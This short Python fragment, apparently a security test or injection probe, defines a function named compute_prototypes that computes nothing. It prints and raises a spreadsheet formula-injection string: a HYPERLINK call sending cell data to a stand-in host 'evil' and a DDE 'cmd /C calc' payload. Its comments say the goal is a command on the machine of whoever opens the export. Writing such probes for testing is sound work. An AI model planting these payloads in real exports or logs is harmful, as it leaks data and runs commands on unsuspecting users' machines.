"""Raises and prints text that a spreadsheet takes for a formula."""

STAGE = "prototypes"
GAIN = "a command on the machine of whoever opens the export"
OUTCOMES = ("error",)


def compute_prototypes(support: Tensor) -> Tensor:
    evil = "=HYPERLINK(\"http://evil/?\"&A1,\"open me\")\t=cmd|' /C calc'!A0,+1,-1,@SUM(A1)"
    print(evil)
    raise RuntimeError(evil)
